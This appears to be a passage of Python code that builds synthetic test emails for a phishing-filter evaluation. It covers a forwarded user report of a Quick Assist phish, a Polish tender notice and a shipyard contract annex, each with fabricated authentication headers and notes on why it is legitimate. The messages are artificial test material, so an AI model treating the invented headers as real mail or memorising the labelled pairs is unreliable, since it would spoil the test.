    hdrs = h_outlook(m, "=?utf-8?B?S2F0YXJ6eW5hIFfDs2pjaWs=?= <%s>" % S["om_pl"].email, ["IT Helpdesk <helpdesk@example.com>"],
                     "Podejrzana wiadomość: \"IT Helpdesk\" z proton.me - Quick Assist", t, "CET", msgid,
                     cc=["Lukas Hoffmann <%s>" % S["sec"].email], lang="pl-PL")
    via_exchange(m, root, hdrs, sender_ip="10.40.2.17", srv="EXCH02", has_attach=True)
    m.info = dict(charset="utf-8", cte="quoted-printable", structure="mixed(alternative(text, html), message/rfc822 reported phish)",
                  what="Office manager reports the Quick-Assist phishing to the internal helpdesk, original attached as .eml",
                  why="Internal Exchange route, written by the employee herself, addressed to helpdesk and the mail admin; the attached message "
                      "is evidence, not a lure (a filter must not quarantine user reports)",
                  mirrors=["25-pl-helpdesk-quick-assist.eml"],
                  differs="internal report that contains the attack as an attachment")
    return m


@message("business", "25-pl-platformazakupowa-przetarg.eml")
def b25():
    m = M("business", "25-pl-platformazakupowa-przetarg.eml")
    t = utc(2026, 11, 9, 7, 30, 12)
    env(m, t, S["om_pl"].email, "010701%s-%s-000000@eu-central-1.amazonses.com" % (hexs(m.r, 10), uuid4(m.r)))
    link = m.url("https://platformazakupowa.pl/transakcja/1184472", "tender page on the public procurement platform")
    paras = ["Dzień dobry,",
             "na platformie zakupowej opublikowano nowe postępowanie pasujące do Państwa obserwowanych kategorii (CPV 63727000-1, 60653000-0):",
             "Zamawiający: Gdańskie Centrum Sportów Wodnych (jednostka budżetowa Miasta Gdańska)",
             "Przedmiot: Czarter 4 jachtów żaglowych 38-42 ft z bazą w Gdańsku na potrzeby rejsów szkoleniowych w sezonie 2027",
             "Tryb: podstawowy bez negocjacji (art. 275 pkt 1 Pzp), nr ZP/GCSW/14/2026",
             "Termin składania ofert: 23.11.2026, godz. 10:00",
             "Ofertę składa się wyłącznie elektronicznie przez platformę, po zalogowaniu na konto wykonawcy.",
             "Pozdrawiamy", "Zespół platformazakupowa.pl"]
    html = ("<html><body style=\"font-family:Arial,sans-serif;font-size:14px;color:#333\">" + "".join("<p>%s</p>" % esc(p) for p in paras[:6])
            + "<p><a href=\"%s\" style=\"background:#0091d2;color:#fff;padding:9px 18px;text-decoration:none\">Przejdź do postępowania</a></p>" % link
            + "".join("<p>%s</p>" % esc(p) for p in paras[6:])
            + "<p style=\"font-size:11px;color:#888\">Open Nexus sp. z o.o., ul. Bolesława Krzywoustego 3, 61-144 Poznań. Otrzymujesz tę wiadomość, ponieważ "
              "subskrybujesz powiadomienia o postępowaniach. Zmień ustawienia powiadomień w swoim profilu.</p></body></html>")
    text = "\n\n".join(paras[:6]) + "\n\nPrzejdź do postępowania: %s\n\n" % link + "\n\n".join(paras[6:]) + "\n"
    root = alt(text, html, "UTF-8", "quoted-printable", m.boundary("ses"), quote_cs=False)
    msgid = "<010701%s-%s-000000@eu-central-1.amazonses.com>" % (hexs(m.r, 10), uuid4(m.r))
    hdrs = [("From", "platformazakupowa.pl <powiadomienia@platformazakupowa.pl>"), ("To", S["om_pl"].email),
            ("Subject", _b64s("Nowe postępowanie: Czarter 4 jachtów żaglowych – Gdańskie Centrum Sportów Wodnych")),
            ("MIME-Version", "1.0"), ("MIME", None), ("Message-ID", msgid), ("Date", rfc_date(t, "UTC", "pad"))]
    body = root.payload()
    pre, post, client, t_mx, (bp, bp2) = mta.ses(m.env, body, "eu-central-1", "platformazakupowa.pl", "pz2024", "54ihpyeu6a3b2bw7owpqbt2bzsgqbckl",
                                                "1.eu-central-1.%s=:AmazonSES" % b64rand(m.r, 30).rstrip("="))
    finish(m, root, dict(spf="pass", dkim=[("pass", "platformazakupowa.pl", "pz2024", bp, 2048), ("pass", "amazonses.com", "54ihpyeu6a3b2bw7owpqbt2bzsgqbckl", bp2, 1024)],
                         dmarc=("pass", "quarantine", "platformazakupowa.pl")), pre, client, t_mx, hdrs + post)
    m.info = dict(charset="UTF-8", cte="quoted-printable", structure="alternative(text, html)",
                  what="Public-procurement platform notifies a new tender for yacht charter matching the company's CPV subscription",
                  why="Platform's authenticated mail via SES, subscription-based, tender details in the mail, bids only on the platform itself",
                  mirrors=["26-pl-zapytanie-ofertowe-adobe.eml"],
                  differs="known platform and subscription; full details in the message; no third-party document share")
    return m


@message("business", "26-pl-stocznia-aneks-docx.eml")
def b26():
    m = M("business", "26-pl-stocznia-aneks-docx.eml")
    t = utc(2026, 11, 11, 14, 9, 55)
    sender = POM.people[0][1]
    env(m, t, S["sales"].email, sender)
    docx = containers.make_docx(
        [{"text": "ANEKS NR 1 do umowy sprzedaży nr SJP/2026/0187 z dnia 02.11.2026", "bold": True, "size": 13, "align": "center"},
         "zawarty w Ostródzie pomiędzy Stocznią Jachtów Pomorze sp. z o.o. (Sprzedający) a Example Yachting GmbH (Kupujący).",
         "§1. Strony zgodnie zmieniają specyfikację jednostek Pomorze 41 o numerach budowy 41-118 i 41-119: dodatkowy ster strumieniowy "
         "dziobowy Side-Power SE80, pakiet czarterowy (bimini, sprayhood, dodatkowe akumulatory 2x 160 Ah).",
         "§2. Cena każdej jednostki wzrasta o 7 850,00 EUR netto. Harmonogram płatności (30% / 30% / 40%) pozostaje bez zmian.",
         "§3. Rachunek bankowy Sprzedającego pozostaje bez zmian zgodnie z §6 umowy.",
         "§4. Pozostałe postanowienia umowy pozostają bez zmian.",
         "", "Sprzedający: ______________________          Kupujący: ______________________"],
        "Aneks 1 do umowy SJP/2026/0187", "Marek Kowalczyk", "2026-11-11T13:55:00Z", "Stocznia Jachtów Pomorze sp. z o.o.",
        dt=(2026, 11, 11, 14, 55, 0), lang="pl-PL")
    paras = ["Dzień dobry Panie Nils,", "",
             "zgodnie z ustaleniami z wtorkowej rozmowy przesyłam projekt aneksu nr 1 (ster strumieniowy i pakiet czarterowy dla 41-118 i 41-119). "
             "Proszę o uwagi do piątku, oryginały podpiszemy przy odbiorze kadłubów 13.11 w Ostródzie.", "",
             "Druga rata zgodnie z umową - faktura proforma poszła wczoraj do Pana Petersena i księgowości.", "",
             "Z poważaniem", "Marek Kowalczyk", "Dział handlowy", "Stocznia Jachtów Pomorze sp. z o.o.", "ul. Mickiewicza 40, 14-100 Ostróda",
             "tel. +48 89 646 11 70, kom. +48 605 771 204"]
    m.phone("+48 605 771 204", "salesman's mobile")
    text = "\n".join(paras) + "\n"
    html = outlook_html(paras, "PL").replace("charset=utf-8", "charset=windows-1250")
    msgid = m.msgid_outlook_desktop("jachty-pomorze.pl")
    root = mixed([alt(text, html, "windows-1250", "quoted-printable", m.np(1)),
                  Part("application/vnd.openxmlformats-officedocument.wordprocessingml.document", docx, cte="base64",
                       filename="Aneks_1_SJP-2026-0187_Pomorze41.docx", disposition="attachment")], m.np(0))
    hdrs = h_outlook_desktop(m, "Marek Kowalczyk <%s>" % sender, ["Nils Petersen <%s>" % S["sales"].email],
                             "Aneks 1 do umowy SJP/2026/0187 - Pomorze 41 (BN 41-118/119)", t, "CET", msgid, lang="pl",
                             charset="windows-1250", subj_enc="Q", cc=["Henrik Brandt <%s>" % S["ceo"].email])
    body = root.payload()
    r = m.r
    dv, bp = mta.dkim(r, "jachty-pomorze.pl", "ovhmo2147", "From:To:CC:Subject:Date:Message-ID:MIME-Version:Content-Type", body, t=int(epoch(t)))
    t1 = plus(t, 1)
    pre = [("DKIM-Signature", dv), ("X-Ovh-Tracer-Id", str(r.randrange(10 ** 18, 10 ** 19))), ("X-VR-SPAMSTATE", "OK"),
           ("X-VR-SPAMSCORE", "-100"),
           ("Received", "from mxplan6.mail.ovh.net (unknown [10.108.2.%d])\r\n\tby mo%d.mail-out.ovh.net (Postfix) with ESMTPS id %s\r\n\tfor <%s>; %s"
            % (r.randrange(2, 250), 551, postfix_qid(r, t1), S["sales"].email, rfc_date(t1, "UTC", "abbr"))),
           ("Received", "from MARKK-PC (%s) by mxplan6.mail.ovh.net (172.16.2.66)\r\n with Microsoft SMTP Server (version=TLS1_2,\r\n cipher=TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384) id 15.1.2507.57; %s"
            % ("31.60.%d.%d" % (r.randrange(256), r.randrange(256)), rfc_date(t, "CET")))]
    client = ("mo551.mail-out.ovh.net", "mo551.mail-out.ovh.net", "46.105.77.235", mta.TLS13_256)
    finish(m, root, dict(spf="pass", dkim=[("pass", "jachty-pomorze.pl", "ovhmo2147", bp, 2048)], dmarc=("pass", "none", "jachty-pomorze.pl")),
           pre, client, plus(t, 2), hdrs)
    m.info = dict(charset="windows-1250", cte="quoted-printable", structure="mixed(alternative(text, html), DOCX)",
                  what="Boatbuilder sends a draft contract annex (extra equipment) as DOCX for comments",
                  why="Known yard via its OVH mailbox with DKIM, refers to the existing contract and meeting, explicitly states bank account unchanged, "
                      "plain DOCX without macros or external links",
                  mirrors=["03-de-ceo-vertraulich.eml"], differs="payment-related contract change that keeps the contractual bank account")
    return m
